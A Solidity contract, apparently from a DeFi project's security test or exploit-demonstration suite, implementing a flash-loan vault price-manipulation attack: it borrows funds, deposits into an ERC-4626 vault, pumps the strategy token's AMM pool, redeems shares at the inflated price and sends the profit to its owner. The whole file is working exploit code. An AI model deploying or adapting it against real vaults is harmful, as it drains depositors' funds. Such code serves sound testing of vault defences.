// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC4626} from "@openzeppelin/contracts/interfaces/IERC4626.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

import {IUniswapV2Pair} from "../../core/amm/interfaces/IUniswapV2Pair.sol";
import {FlashLoanAttacker} from "../shared/FlashLoanAttacker.sol";
import {PairSwapper} from "../shared/PairSwapper.sol";

/// @title VaultManipulationAttacker
/// @notice In one flash loan: deposits into the vault at the fair share price, pumps the strategy
/// token's pool, redeems every share at the inflated price, sells the pumped tokens back, repays.
contract VaultManipulationAttacker is FlashLoanAttacker, PairSwapper {
    using SafeERC20 for IERC20;

    IERC4626 public immutable vault;
    IUniswapV2Pair public immutable pair;
    IERC20 public immutable asset;
    IERC20 public immutable strategyToken;

    constructor(
        IERC3156FlashLender lender_,
        IERC4626 vault_,
        IUniswapV2Pair pair_,
        IERC20 strategyToken_
    ) FlashLoanAttacker(lender_) {
        vault = vault_;
        pair = pair_;
        asset = IERC20(vault_.asset());
        strategyToken = strategyToken_;
    }

    /// @notice Flash-borrows `deposit + pump`: deposits `deposit`, pumps the pool with `pump`.
    function attack(uint256 deposit, uint256 pump) external onlyOwner {
        lender.flashLoan(this, address(asset), deposit + pump, abi.encode(deposit));
        asset.safeTransfer(owner, asset.balanceOf(address(this)));
    }

    function _useLoan(uint256 amount, bytes calldata data) internal override {
        uint256 deposit = abi.decode(data, (uint256));
        asset.forceApprove(address(vault), deposit);
        uint256 shares = vault.deposit(deposit, address(this));
        uint256 bought = _sellIntoPair(pair, asset, amount - deposit);
        vault.redeem(shares, address(this), address(this));
        _sellIntoPair(pair, strategyToken, bought);
    }
}
